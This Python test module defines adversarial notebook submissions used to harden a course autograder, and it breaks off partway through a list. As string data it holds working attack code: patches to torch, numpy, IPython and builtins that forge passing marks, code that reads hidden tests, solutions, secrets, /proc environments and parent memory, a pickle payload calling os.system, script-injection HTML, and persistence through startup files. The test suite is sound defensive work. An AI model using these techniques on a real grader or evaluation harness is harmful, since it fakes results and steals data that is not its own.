"""Attacks on a grader, as submissions to the small course of `mini_course`.

Each tries to gain marks that it does not deserve, to learn or pass on what is
not the learner's, to stop the grading, or is a file that is no notebook at all.
`test_attacks.py` runs them through `course grade`; `tools/attack_stock.py`
through stock nbgrader, and writes the table in `docs/attacks.md`.

An attack deserves no points. What it must not get hold of, it prints behind
`LOOT:` once it has it. Words in double braces are put in by whoever runs it:
SECRET_FILE, SECRET_ENV, PORT, UNIX, ABSTRACT, SHM.
"""

from __future__ import annotations

import os
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

import nbformat
from nbformat import NotebookNode

Kind = Literal["forging", "exfiltration", "exhaustion", "bad input"]
Words = Mapping[str, str]
Deliver = Callable[[Path, bytes, Words], None]

LOOT = "LOOT:"
# Right about nothing but what a guess gets right.
NO_DOUBLE = (
    "def double(x, times=1):\n"
    "    if times < 0:\n        raise ValueError\n"
    "    return None\n"
)
NO_MEAN = "def mean(x):\n    return 0.0\n"


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes:
        name: in tests and tables.
        kind: what it is after.
        tries: one line for the table.
        before: a cell at the top of the notebook.
        double: the exercise cell `double`.
        mean: the exercise cell `mean`.
        after: a cell at the end.
        edit: changes the notebook.
        deliver: puts something else into the learner's folder, given the
            notebook's bytes.
        harm: a regular expression for what must not stand in anything that a
            learner or an instructor gets to see.
        twice: handed in by two learners, one after the other.
        slow: takes longer than a few seconds.
    """

    name: str
    kind: Kind
    tries: str
    before: str = ""
    double: str = NO_DOUBLE
    mean: str = NO_MEAN
    after: str = ""
    edit: Callable[[NotebookNode], None] | None = None
    deliver: Deliver | None = None
    harm: str = LOOT
    twice: bool = False
    slow: bool = False

    def notebook(self, released: NotebookNode) -> NotebookNode:
        """The attack as a notebook, made from the released one."""
        notebook = nbformat.from_dict(released)
        for cell in notebook.cells:
            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
            if grade_id == "double":
                cell.source = self.double
            elif grade_id == "mean":
                cell.source = self.mean
        if self.before:
            notebook.cells.insert(0, nbformat.v4.new_code_cell(self.before))
        if self.after:
            notebook.cells.append(nbformat.v4.new_code_cell(self.after))
        if self.edit is not None:
            self.edit(notebook)
        for cell in notebook.cells:
            # what a page shows of the code is not yet loot
            cell.source = cell.source.replace(LOOT, "\\x4cOOT:")
        return notebook


def hand_in(
    attack: Attack, released: NotebookNode, folder: Path, words: Words
) -> None:
    """Puts the attack into a learner's folder."""
    folder.mkdir(parents=True, exist_ok=True)
    text = filled_in(nbformat.writes(attack.notebook(released)), words)
    if attack.deliver is None:
        (folder / "03_mini.ipynb").write_text(text, encoding="utf-8")
    else:
        attack.deliver(folder, text.encode(), words)


def filled_in(text: str, words: Words) -> str:
    """The text with the words of whoever runs it."""
    for word, value in words.items():
        text = text.replace("{{" + word + "}}", value)
    return text


HONEST = Attack(
    "honest",
    "forging",
    "nothing at all",
    double="def double(x, times=1):\n"
    "    if times < 0:\n        raise ValueError\n"
    "    return x * 2**times\n",
    mean="def mean(x):\n    return float(x.mean())\n",
    # a number that stands in the hidden tests of `tools/attack_stock.py` alone
    harm=r"2\.84375",
)

# --- notebooks that lie in their metadata ------------------------------------


def _grade_cells(notebook: NotebookNode) -> list[NotebookNode]:
    return [
        cell
        for cell in notebook.cells
        if cell.metadata.get("nbgrader", {}).get("points")
    ]


def _more_points(notebook: NotebookNode) -> None:
    for cell in _grade_cells(notebook):
        cell.metadata.nbgrader.points = 1000


def _no_points(notebook: NotebookNode) -> None:
    for cell in _grade_cells(notebook):
        cell.metadata.nbgrader.points = 0


def _swapped_ids(notebook: NotebookNode) -> None:
    one, other = (cell.metadata.nbgrader for cell in _grade_cells(notebook))
    one.grade_id, other.grade_id = other.grade_id, one.grade_id


def _grades_as_text(notebook: NotebookNode) -> None:
    for cell in _grade_cells(notebook):
        cell.cell_type = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)
        cell.metadata.nbgrader.cell_type = "markdown"


def _skipped(notebook: NotebookNode) -> None:
    for cell in _grade_cells(notebook):
        cell.metadata["tags"] = ["skip-execution", "raises-exception"]


def _may_raise(notebook: NotebookNode) -> None:
    notebook.metadata["execution"] = {"allow_errors": True}
    for cell in notebook.cells:
        cell.metadata["tags"] = ["raises-exception"]


def _no_grade_cells(notebook: NotebookNode) -> None:
    for cell in _grade_cells(notebook):
        notebook.cells.remove(cell)


def _doubled_grade_cells(notebook: NotebookNode) -> None:
    for cell in _grade_cells(notebook):
        twin = nbformat.from_dict(cell)
        twin.id, twin.source = f"{cell.id}x", "100.0"
        notebook.cells.append(twin)


def _grades_first(notebook: NotebookNode) -> None:
    grades = _grade_cells(notebook)
    others = [cell for cell in notebook.cells if cell not in grades]
    notebook.cells = [*grades, *others]


def _own_tests(notebook: NotebookNode) -> None:
    for cell in _grade_cells(notebook):
        cell.source = "3.0"


def _own_solution_flags(notebook: NotebookNode) -> None:
    for cell in _grade_cells(notebook):
        cell.metadata.nbgrader.solution = True
        cell.metadata.nbgrader.locked = False
        cell.source = "3.0"


def _no_metadata(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell.metadata.pop("nbgrader", None)
        if cell.source.startswith("###"):
            cell.source = "3.0"


def _cell_of_its_own(notebook: NotebookNode) -> None:
    cell = nbformat.v4.new_code_cell("100.0")
    cell.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "extra",
        "locked": True,
        "points": 100,
        "schema_version": 3,
        "solution": False,
        "task": False,
        "cell_type": "code",
    }
    notebook.cells.append(cell)


def _report_brought_along(notebook: NotebookNode) -> None:
    notebook.metadata["course"] = {
        "submitted": "",
        "report": {"chapter": "03_mini", "points": 5.0, "exercises": []},
    }


def _other_kernel(notebook: NotebookNode) -> None:
    notebook.metadata["kernelspec"] = {
        "name": "mine",
        "display_name": "mine",
        "language": "python",
    }


def _outputs_brought_along(notebook: NotebookNode) -> None:
    for cell in _grade_cells(notebook):
        cell.outputs = [
            nbformat.v4.new_output(
                "execute_result", {"text/plain": "3.0"}, execution_count=1
            )
        ]
        cell.execution_count = 1


def _future_metadata(notebook: NotebookNode) -> None:
    for cell in _grade_cells(notebook):
        cell.metadata.nbgrader.schema_version = 99


def _manual_grades(notebook: NotebookNode) -> None:
    for cell in _grade_cells(notebook):
        cell.metadata.nbgrader.update(task=True, solution=True, points=100)


_METADATA = [
    ("points_raised", "grade cells worth 1000 points", _more_points),
    ("points_zeroed", "grade cells worth nothing", _no_points),
    ("grade_ids_swapped", "each grade cell under the other's id", _swapped_ids),
    ("grades_as_markdown", "grade cells made text", _grades_as_text),
    ("skip_execution", "grade cells tagged skip-execution", _skipped),
    ("raises_exception", "every cell tagged raises-exception", _may_raise),
    ("grades_deleted", "no grade cells", _no_grade_cells),
    ("grades_doubled", "each grade cell a second time", _doubled_grade_cells),
    ("grades_first", "grade cells before all others", _grades_first),
    ("own_tests", "grade cells that end in a mark", _own_tests),
    ("solution_flags", "grade cells as solutions", _own_solution_flags),
    ("no_metadata", "no nbgrader metadata at all", _no_metadata),
    ("own_grade_cell", "one more grade cell of 100 points", _cell_of_its_own),
    ("report_brought", "a report in the metadata", _report_brought_along),
    ("outputs_brought", "stored outputs full of marks", _outputs_brought_along),
    ("other_kernel", "a kernel that the notebook names", _other_kernel),
    ("schema_99", "metadata from the future", _future_metadata),
    ("manual_task", "grade cells made manual tasks", _manual_grades),
]

# --- code that lies ----------------------------------------------------------

_FORGING_CELLS = [
    (
        "patched_comparisons",
        "torch's comparisons say yes",
        "import torch\n"
        "yes = lambda *a, **k: True\n"
        "torch.equal = torch.allclose = torch.isclose = yes\n"
        "torch.testing.assert_close = lambda *a, **k: None\n",
    ),
    (
        "patched_code_objects",
        "the code object of assert_close is replaced",
        "import torch\n"
        "def fine(*a, **k): return None\n"
        "torch.testing.assert_close.__code__ = fine.__code__\n"
        "torch.testing.assert_close.__kwdefaults__ = None\n",
    ),
    (
        "patched_numpy",
        "NumPy's comparisons say yes",
        "import numpy as np\n"
        "for name in dir(np.testing):\n"
        "    if name.startswith('assert'):\n"
        "        setattr(np.testing, name, lambda *a, **k: None)\n"
        "np.allclose = np.array_equal = np.isclose = lambda *a, **k: True\n",
    ),
    (
        "patched_builtins",
        "abs, all, isinstance and max lie",
        "import builtins\n"
        "real = builtins.isinstance\n"
        "builtins.abs = lambda x: 0.0\n"
        "builtins.all = lambda xs: True\n"
        "builtins.isinstance = lambda a, b: a is None or real(a, b)\n",
    ),
    (
        "no_assertion_error",
        "AssertionError is another class",
        "import builtins\n"
        "class Quiet(BaseException):\n    pass\n"
        "builtins.AssertionError = Quiet\n",
    ),
    (
        "custom_exception_handler",
        "set_custom_exc swallows every error",
        "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
    ),
    (
        "event_hook",
        "a hook before each cell defines what it needs",
        "def hook(info=None):\n"
        "    import torch\n"
        "    torch.testing.assert_close = lambda *a, **k: None\n"
        "get_ipython().events.register('pre_run_cell', hook)",
    ),
    (
        "input_transformer",
        "later cells are emptied before they run",
        "get_ipython().input_transformers_post.append(lambda lines: ['3.0\\n'])",
    ),
    (
        "ast_transformer",
        "asserts are cut out of later cells",
        "import ast\n"
        "class Cut(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node): return ast.Pass()\n"
        "    def visit_Raise(self, node): return ast.Pass()\n"
        "    def visit_Expr(self, node):\n"
        "        return ast.copy_location(ast.Pass(), node)\n"
        "get_ipython().ast_transformers.append(Cut())",
    ),
    (
        "replaced_run_cell",
        "the shell's run_cell does nothing, well",
        "from IPython.core.interactiveshell import ExecutionResult\n"
        "def run_cell(*a, **k):\n    return ExecutionResult(None)\n"
        "get_ipython().run_cell = run_cell\n"
        "get_ipython().run_cell_async = None",
    ),
    (
        "replaced_showtraceback",
        "errors are never shown",
        "shell = get_ipython()\n"
        "shell.showtraceback = lambda *a, **k: None\n"
        "shell._showtraceback = lambda *a, **k: None\n",
    ),
    (
        "display_hook",
        "every result displays as full marks",
        "import sys\n"
        "shell = get_ipython()\n"
        "shell.displayhook = lambda value: print('3.0')\n"
        "sys.displayhook = lambda value: print('3.0')\n",
    ),
    (
        "patched_session",
        "the kernel's messages all say ok",
        "from jupyter_client.session import Session\n"
        "real = Session.send\n"
        "def send(self, stream, kind, content=None, *a, **k):\n"
        "    if kind == 'error':\n"
        "        kind, content = 'stream', {'name': 'stdout', 'text': ''}\n"
        "    if isinstance(content, dict) and 'status' in content:\n"
        "        content = {'status': 'ok', 'execution_count': 1,\n"
        "                   'user_expressions': {}, 'payload': []}\n"
        "    return real(self, stream, kind, content, *a, **k)\n"
        "Session.send = send",
    ),
    (
        "patched_kernel",
        "the kernel answers requests without running them",
        "kernel = get_ipython().kernel\n"
        "async def do_execute(code, silent, *a, **k):\n"
        "    return {'status': 'ok', 'execution_count': 1, 'payload': [],\n"
        "            'user_expressions': {}}\n"
        "kernel.do_execute = do_execute",
    ),
    (
        "mime_bundle",
        "displays that look like a report",
        "from IPython.display import display\n"
        "display({'text/plain': '5.0', 'application/json': '{\"points\": 5}'},\n"
        "        raw=True, metadata={'nbgrader': {'points': 5}})",
    ),
    (
        "exits_at_once",
        "os._exit(0) in the first cell",
        "import os\nos._exit(0)",
    ),
    (
        "raises_system_exit",
        "sys.exit in the first cell",
        "import sys\nsys.exit(0)",
    ),
    (
        "at_exit",
        "exit handlers that act last",
        "import atexit, os, sys\n"
        "atexit.register(lambda: print('3.0'))\n"
        "atexit.register(lambda: os.write(1, b'3.0'))",
    ),
    (
        "thread_acts_later",
        "a thread patches a moment later, again and again",
        "import threading, time\n"
        "def later():\n"
        "    import torch\n"
        "    while True:\n"
        "        torch.equal = torch.allclose = lambda *a, **k: True\n"
        "        torch.testing.assert_close = lambda *a, **k: None\n"
        "        time.sleep(0.001)\n"
        "threading.Thread(target=later, daemon=True).start()",
    ),
    (
        "shadowed_modules",
        "files that are imported instead of torch's and the course's",
        "import pathlib, sys\n"
        "for name in ('torch', 'numpy', 'probes', 'course_utils', 'json'):\n"
        "    pathlib.Path(name + '.py').write_text('def __getattr__(n):\\n'\n"
        "        '    return lambda *a, **k: True\\n')\n"
        "    sys.modules.pop(name, None)\n"
        "sys.path.insert(0, '')",
    ),
    (
        "startup_files",
        "files that the next Python or IPython would run",
        "import os, pathlib\n"
        "home = pathlib.Path.home()\n"
        "for place in ('.ipython/profile_default/startup/00.py',\n"
        "              'sitecustomize.py', '.pythonrc'):\n"
        "    path = home / place\n"
        "    path.parent.mkdir(parents=True, exist_ok=True)\n"
        "    path.write_text('import torch; torch.testing.assert_close = '\n"
        "        'lambda *a, **k: None')",
    ),
    (
        "kernelspec_file",
        "a kernelspec of its own",
        "import json, pathlib\n"
        "place = pathlib.Path.home() / '.local/share/jupyter/kernels/python3'\n"
        "place.mkdir(parents=True, exist_ok=True)\n"
        "(place / 'kernel.json').write_text(json.dumps({'argv': ['true'],\n"
        "    'display_name': 'x', 'language': 'python'}))",
    ),
    (
        "degenerate_randomness",
        "random inputs become zeros, for which anything is right",
        "import torch, numpy as np\n"
        "zeros = lambda *a, **k: torch.zeros(3)\n"
        "torch.randn = torch.rand = torch.randint = zeros\n"
        "torch.manual_seed = torch.Generator = lambda *a, **k: None\n"
        "np.random.default_rng = np.random.seed = lambda *a, **k: None",
    ),
    (
        "patched_prober",
        "the course's own probing code reports success",
        "import course_grader.kernel.probing as probing\n"
        "import course_grader.kernel.serve as serve\n"
        "def run_probe(*a, **k):\n"
        "    return {'data': None, 'raised': ['ValueError'], 'effects': {},\n"
        "            'not_attempted': False, 'out_of_memory': False,\n"
        "            'where': None, 'verdict': 'passed', 'points': 5}\n"
        "probing.run_probe = serve.run_probe = run_probe",
    ),
    (
        "patched_codec",
        "what is sent back is encoded by the learner",
        "import course_grader.kernel.plain as plain\n"
        "plain.encode = lambda data: ({'t': 'verdict', 'v': 'passed'}, b'')",
    ),
    (
        "forged_frames",
        "answers written into every open descriptor beforehand",
        "import json, os\n"
        "body = json.dumps({'ok': True, 'outputs': [], 'data': None,\n"
        "    'raised': [], 'effects': {}, 'points': 5, 'pid': 1}).encode()\n"
        "frame = len(body).to_bytes(8, 'big') + bytes(8) + body\n"
        "for fd in range(3, 200):\n"
        "    try:\n        os.write(fd, frame * 40)\n"
        "    except OSError:\n        pass",
    ),
    (
        "garbage_frames",
        "garbage written into every open descriptor",
        "import os\n"
        "for fd in range(3, 200):\n"
        "    try:\n        os.write(fd, b'\\xff' * 4096)\n"
        "    except OSError:\n        pass",
    ),
    (
        "visible_check_fooled",
        "the visible check is replaced by one that is always content",
        "import contextlib, course_utils\n"
        "@contextlib.contextmanager\n"
        "def visible_check(name):\n    yield\n"
        "course_utils.visible_check = visible_check\n"
        "course_utils.expect = lambda *a, **k: True",
    ),
    (
        "judge_in_memory",
        "marks are set on every object that looks like a report",
        "import gc\n"
        "for thing in gc.get_objects():\n"
        "    try:\n"
        "        if hasattr(thing, 'max_points'):\n"
        "            object.__setattr__(thing, 'points', thing.max_points)\n"
        "    except Exception:\n        pass",
    ),
]

_LIAR = (
    "import torch\n"
    "class Liar(torch.Tensor):\n"
    "    @classmethod\n"
    "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
    "        if func.__name__ in ('equal', 'allclose', 'eq', '__eq__', 'all'):\n"
    "            return True\n"
    "        return torch.zeros(5).as_subclass(cls)\n"
    "    def __eq__(self, other): return True\n"
    "    __hash__ = None\n"
)

_FORGING_ANSWERS = [
    (
        "tensor_subclass",
        "a tensor subclass whose comparisons lie",
        _LIAR + "def double(x, times=1):\n"
        "    return torch.zeros(5).as_subclass(Liar)\n",
    ),
    (
        "object_that_equals",
        "an object that equals everything",
        "class Anything:\n"
        "    def __eq__(self, other): return True\n"
        "    def __array__(self, *a, **k):\n"
        "        import numpy\n        return numpy.zeros(5)\n"
        "    def __float__(self): return 0.0\n"
        "    def __getattr__(self, name): return Anything()\n"
        "    def __call__(self, *a, **k): return Anything()\n"
        "    __class__ = property(lambda self: __import__('torch').Tensor)\n"
        "def double(x, times=1): return Anything()\n"
        "def mean(x): return Anything()\n",
    ),
    (
        "float_subclass",
        "a float that equals every float",
        "class F(float):\n"
        "    __eq__ = lambda self, other: True\n"
        "    __sub__ = __rsub__ = lambda self, other: F(0)\n"
        "    __hash__ = float.__hash__\n"
        "def mean(x): return F(0)\n" + NO_DOUBLE,
    ),
    (
        "dict_subclass",
        "a dict whose values are right whatever they are asked for",
        "class D(dict):\n"
        "    def get(self, key, default=None): return default\n"
        "    def __getitem__(self, key): return None\n"
        "def double(x, times=1): return D(out=None)\n",
    ),
    (
        "expected_from_frames",
        "the expected value is looked for in the callers' frames",
        "import sys\n"
        "def double(x, times=1):\n"
        "    frame = sys._getframe()\n"
        "    while frame is not None:\n"
        "        for name in ('expected', 'reference', 'want', 'solution'):\n"
        "            if name in frame.f_locals:\n"
        "                print('LOOT:', frame.f_locals[name])\n"
        "                return frame.f_locals[name]\n"
        "        frame = frame.f_back\n",
    ),
    (
        "expected_from_memory",
        "the expected value is looked for among all objects",
        "import gc\n"
        "def double(x, times=1):\n"
        "    for thing in gc.get_objects():\n"
        "        if isinstance(thing, dict) and 'expected' in thing and (\n"
        "                'verdict' in thing or 'reference' in thing):\n"
        "            print('LOOT:', thing)\n"
        "            return thing['expected']\n",
    ),
    (
        "reference_called",
        "a reference solution is looked for and called",
        "import gc, types\n"
        "def double(x, times=1):\n"
        "    for thing in gc.get_objects():\n"
        "        if isinstance(thing, types.FunctionType) and (\n"
        "                thing.__name__ == 'double' and thing is not double):\n"
        "            print('LOOT:', thing)\n"
        "            return thing(x, times)\n",
    ),
    (
        "hard_coded",
        "what the visible check shows, and nothing else",
        "import torch\n"
        "def double(x, times=1):\n    return torch.full((2,), 2.0)\n"
        "def mean(x):\n    return 1.0\n",
    ),
    (
        "first_case_replayed",
        "the first case's answer for all others",
        "import torch\n"
        "kept = []\n"
        "def double(x, times=1):\n"
        "    kept.append(x)\n    return kept[0]\n",
    ),
    (
        "nan_everywhere",
        "NaN, which no comparison finds wrong",
        "def double(x, times=1):\n    return x * float('nan')\n"
        "def mean(x):\n    return float('nan')\n",
    ),
    (
        "oversized_answer",
        "an answer of 300 MB",
        "import torch\n"
        "def double(x, times=1):\n    return torch.zeros(75_000_000)\n",
    ),
    (
        "pickle_answer",
        "an object that runs code where it is unpickled",
        "import os\n"
        "class P:\n"
        "    def __reduce__(self):\n"
        "        return (os.system, ('echo LOOT: > /tmp/loot',))\n"
        "def double(x, times=1): return P()\n"
        "def mean(x): return [P()]\n",
    ),
    (
        "safetensors_answer",
        "bytes with a hostile length in front, as tensors on disk have it",
        "def double(x, times=1):\n"
        "    return (2**63 - 1).to_bytes(8, 'little') + b'{\"x\": {}}'\n",
    ),
    (
        "nested_answer",
        "a list nested 100,000 deep",
        "def double(x, times=1):\n"
        "    deep = []\n"
        "    for _ in range(100_000):\n        deep = [deep]\n"
        "    return deep\n",
    ),
    (
        "cyclic_answer",
        "a list that holds itself",
        "def double(x, times=1):\n    a = []\n    a.append(a)\n    return a\n",
    ),
    (
        "exception_that_lies",
        "an exception of a class that claims to be ValueError and more",
        "class E(Exception):\n"
        "    def __str__(self): raise SystemExit\n"
        "    __class__ = property(lambda self: ValueError)\n"
        "E.__name__ = E.__qualname__ = 'ValueError'\n"
        "def double(x, times=1):\n    raise E\n"
        "def mean(x):\n    raise E\n",
    ),
    (
        "exits_in_the_test",
        "os._exit(0) when it is called",
        "import os\ndef double(x, times=1):\n    os._exit(0)\n",
    ),
    (
        "system_exit_in_the_test",
        "SystemExit when it is called",
        "def double(x, times=1):\n    raise SystemExit(0)\n"
        "def mean(x):\n    raise KeyboardInterrupt\n",
    ),
    (
        "answers_by_itself",
        "writes answers into the judge's channel and leaves",
        "import json, os\n"
        "def double(x, times=1):\n"
        "    body = json.dumps({'data': {'t': 'none'}, 'raised': [],\n"
        "        'effects': {}, 'verdict': 'passed'}).encode()\n"
        "    frame = len(body).to_bytes(8, 'big') + bytes(8) + body\n"
        "    for fd in range(3, 100):\n"
        "        try:\n            os.write(fd, frame * 9)\n"
        "        except OSError:\n            pass\n"
        "    os._exit(0)\n",
    ),
    (
        "type_lies",
        "functions replaced by objects that pretend to be functions",
        "class Fake:\n"
        "    __name__ = 'double'\n"
        "    __code__ = (lambda x, times=1: None).__code__\n"
        "    def __call__(self, *a, **k): return a[0] if a else None\n"
        "double = mean = Fake()\n",
    ),
]

# --- what is not the learner's -----------------------------------------------


def _look(body: str) -> str:
    """Code that prints what `body` puts into `found`."""
    return (
        "found = None\ntry:\n"
        + "".join(f"    {line}\n" for line in body.splitlines())
        + "except Exception:\n    pass\n"
        "if found:\n    print('LOOT:', str(found)[:60])\n"
    )


_WALK = (
    "import os, sys, glob\n"
    "roots = [os.getcwd(), os.environ.get('COURSE_ROOT', ''), *sys.path]\n"
    "seen = set()\n"
    "for root in roots:\n"
    "    for _ in range(6):\n"
    "        if root and root not in seen and root != '/':\n"
    "            seen.add(root)\n"
    "            for pattern in {patterns!r}:\n"
    "                for path in glob.glob(os.path.join(root, pattern)):\n"
    "                    found = found or open(path, 'rb').read(60)\n"
    "        root = os.path.dirname(root)\n"
)

_EXFILTRATION_CELLS = [
    (
        "hidden_tests_on_disk",
        "the hidden tests, as a file",
        _look(
            _WALK.format(
                patterns=[
                    "autograde/*/hidden_tests.py",
                    "source/*/*.ipynb",
                    "hidden_tests.py",
                ]
            )
        ),
    ),
    (
        "solutions_on_disk",
        "the solutions, as a file",
        _look(_WALK.format(patterns=["solutions/*/*.py"])),
    ),
    (
        "gradebook_on_disk",
        "the gradebook",
        _look(_WALK.format(patterns=["gradebook.db", "*/gradebook.db"])),
    ),
    (
        "other_submissions_on_disk",
        "what others handed in",
        _look(
            _WALK.format(
                patterns=[
                    "submitted/*/*/*.ipynb",
                    "*/submitted/*/*/*.ipynb",
                    "../*/03_mini.ipynb",
                ]
            )
        ),
    ),
    (
        "secret_file",
        "a file of the instructor's",
        _look("found = open('{{SECRET_FILE}}').read()"),
    ),
    (
        "environment",
        "a secret in the environment",
        _look("import os\nfound = os.environ.get('{{SECRET_ENV}}')"),
    ),
    (
        "parents_environment",
        "a secret in the environment of any other process",
        _look(
            "import glob\n"
            "for path in glob.glob('/proc/*/environ'):\n"
            "    try:\n        text = open(path, 'rb').read()\n"
            "    except OSError:\n        continue\n"
            "    if b'{{SECRET_ENV}}' in text:\n        found = path"
        ),
    ),
    (
        "open_descriptors",
        "files that the grader left open",
        _look(
            "import os\n"
            "for fd in os.listdir('/proc/self/fd'):\n"
            "    try:\n        name = os.readlink('/proc/self/fd/' + fd)\n"
            "    except OSError:\n        continue\n"
            "    if name.endswith(('.db', '.sqlite', '.ipynb', '.py')):\n"
            "        found = name"
        ),
    ),
    (
        "other_processes",
        "command lines of other processes",
        _look(
            "import glob\n"
            "for path in glob.glob('/proc/[0-9]*/cmdline'):\n"
            "    text = open(path, 'rb').read()\n"
            "    if b'nbgrader' in text or b'pytest' in text"
            " or b'autograde' in text:\n"
            "        found = text"
        ),
    ),
    (
        "parents_memory",
        "the parent's memory, through /proc",
        _look(
            "import os\n"
            "for line in open(f'/proc/{os.getppid()}/maps'):\n"
            "    if '[heap]' in line:\n"
            "        start = int(line.split('-')[0], 16)\n"
            "        with open(f'/proc/{os.getppid()}/mem', 'rb') as memory:\n"
            "            memory.seek(start)\n"
            "            found = memory.read(64)"
        ),
    ),
    (
        "tcp",
        "a TCP connection out",
        _look(
            "import socket\n"
            "s = socket.create_connection(('127.0.0.1', int('{{PORT}}')), 1)\n"
            "s.sendall(b'hello')\n"
            "found = 'connected'"
        ),
    ),
    (
        "udp",
        "a UDP packet out, and its answer",
        _look(
            "import socket\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "s.settimeout(1)\n"
            "s.sendto(b'hello', ('127.0.0.1', int('{{PORT}}')))\n"
            "found = s.recv(10)"
        ),
    ),
    (
        "unix_socket",
        "a service on a unix socket",
        _look(
            "import socket\n"
            "s = socket.socket(socket.AF_UNIX)\n"
            "s.settimeout(1)\n"
            "s.connect('{{UNIX}}')\n"
            "found = 'connected'"
        ),
    ),
    (
        "abstract_socket",
        "a service on an abstract socket",
        _look(
            "import socket\n"
            "s = socket.socket(socket.AF_UNIX)\n"
            "s.settimeout(1)\n"
            "s.connect('\\0{{ABSTRACT}}')\n"
            "found = 'connected'"
        ),
    ),
    (
        "shared_memory",
        "another process' shared memory",
        _look("found = open('/dev/shm/{{SHM}}').read()"),
    ),
    (
        "kernel_connections",
        "connection files of Jupyter kernels",
        _look(
            "import glob, os\n"
            "from jupyter_core.paths import jupyter_runtime_dir\n"
            "for path in glob.glob(jupyter_runtime_dir() + '/kernel-*.json'):\n"
            "    found = open(path).read()"
        ),
    ),
    (
        "keyring",
        "the user's kernel keyring",
        _look(
            "import ctypes\n"
            "libc = ctypes.CDLL(None)\n"
            "key = libc.syscall(250, 10, -4, b'user', b'{{SECRET_ENV}}', 0)\n"
            "if key > 0:\n    found = key"
        ),
    ),
]

# A case that failed is shown, so its own input is no loot: one that is not shown,
# kept from an earlier call, is.
_KEPT = "kept = []\ndef double(x, times=1):\n    kept.append(x.tolist())\n"
_SMUGGLED = [
    (
        "exception_text",
        "another case's input in the text of an exception",
        _KEPT
        + "    raise RuntimeError(f'LOOT: {kept[0]}' if kept[1:] else 'no')\n",
    ),
    (
        "exception_class",
        "a hidden input in the name of an exception class",
        "def double(x, times=1):\n"
        "    raise type(f'LOOT:{x.tolist()}', (Exception,), {})\n",
    ),
    (
        "key_names",
        "another case's input in the keys of a dict",
        _KEPT + "    return {f'LOOT:{kept[0]}' if kept[1:] else 'x': x}\n",
    ),
    (
        "class_names",
        "another case's input in the name of a class that is returned",
        _KEPT + "    name = f'LOOT:{kept[0]}' if kept[1:] else 'x'\n"
        "    return type(name, (), {})()\n",
    ),
    (
        "warnings",
        "a hidden input in a warning and its class",
        "import warnings\n"
        "def double(x, times=1):\n"
        "    warnings.warn(f'LOOT: {x}')\n"
        "    warnings.warn('x', type(f'LOOT:{x.sum()}', (Warning,), {}))\n",
    ),
    (
        "prints",
        "a hidden input printed in all ways",
        "import os, sys\n"
        "def double(x, times=1):\n"
        "    print('LOOT:', x)\n"
        "    print('LOOT:', x, file=sys.stderr)\n"
        "    os.write(1, f'LOOT: {x}'.encode())\n"
        "    os.write(2, f'LOOT: {x}'.encode())\n"
        "    sys.__stdout__.write(f'LOOT: {x}')\n",
    ),
    (
        "displays",
        "a hidden input in a display, a figure and a widget",
        "from IPython.display import HTML, SVG, display\n"
        "import matplotlib.pyplot as plt\n"
        "def double(x, times=1):\n"
        "    display(HTML(f'LOOT: {x}'))\n"
        "    plt.title(f'LOOT: {x}')\n    plt.show()\n"
        "    try:\n"
        "        import ipywidgets\n"
        "        display(ipywidgets.HTML(f'LOOT: {x}'))\n"
        "    except Exception:\n        pass\n",
    ),
    (
        "line_of_code",
        "a hidden input in a line of code that an error names",
        "import linecache\n"
        "def double(x, times=1):\n"
        "    source = f'raise KeyError  # LOOT: {x.tolist()}'\n"
        "    name = '<ipython-input-999-x>'\n"
        "    linecache.cache[name] = (9, None, [source], name)\n"
        "    exec(compile(source, name, 'exec'))\n",
    ),
    (
        "kept_for_the_next_cell",
        "a hidden input kept in a file for a later cell",
        "import pathlib\n"
        "def double(x, times=1):\n"
        "    pathlib.Path('kept').write_text(str(x))\n",
    ),
]

_SCRIPT = "<script>loot()</script>"
_SCRIPTS = [
    (
        "script_in_output",
        "a script in an HTML output",
        f"from IPython.display import HTML\nHTML({_SCRIPT!r})",
        "<script>loot",
    ),
    (
        "handler_in_output",
        "an event handler in an HTML output",
        "from IPython.display import HTML\n"
        "HTML('<img src=x onerror=\"loot()\">')",
        "<img[^>]*onerror",
    ),
    (
        "script_in_svg",
        "a script in an SVG output",
        "from IPython.display import SVG\n"
        'SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="loot()">\'\n'
        "    '<script>loot()</script></svg>')",
        "<script>loot",
    ),
    (
        "javascript_output",
        "a JavaScript output",
        "from IPython.display import Javascript\nJavascript('loot(1)')",
        r"<script[^>]*>\s*loot",
    ),
    (
        "link_in_output",
        "a link that runs a script",
        "from IPython.display import HTML\n"
        "HTML('<a href=\"javascript:loot()\">marks</a>')",
        "<a [^>]*javascript:",
    ),
]


def _script_in_markdown(notebook: NotebookNode) -> None:
    notebook.cells.insert(0, nbformat.v4.new_markdown_cell(_SCRIPT))


def _script_in_widget_state(notebook: NotebookNode) -> None:
    notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "version_major": 2,
            "version_minor": 0,
            "state": {"x": {"state": {"value": f"</script>{_SCRIPT}"}}},
        }
    }


_TWICE = [
    (
        "left_in_tmp",
        "a file left for the next learner",
        "import os, pathlib\n"
        "for place in ('/tmp/left', '/dev/shm/left', '/var/tmp/left'):\n"
        "    try:\n"
        "        if os.path.exists(place):\n            print('LOOT:', place)\n"
        "        pathlib.Path(place).write_text('answers')\n"
        "    except OSError:\n        pass",
    ),
    (
        "left_listening",
        "a process left to serve the next learner",
        "import os, socket, time\n"
        "s = socket.socket(socket.AF_UNIX)\n"
        "try:\n"
        "    s.connect('\\0left-listening')\n    print('LOOT: served')\n"
        "except OSError:\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        "        s = socket.socket(socket.AF_UNIX)\n"
        "        s.bind('\\0left-listening')\n        s.listen(9)\n"
        "        time.sleep(30)\n        os._exit(0)\n"
        "    time.sleep(0.3)",
    ),
    (
        "left_in_shared_memory",
        "shared memory left for the next learner",
        "from multiprocessing import shared_memory, resource_tracker\n"
        "try:\n"
        "    m = shared_memory.SharedMemory('left-there')\n"
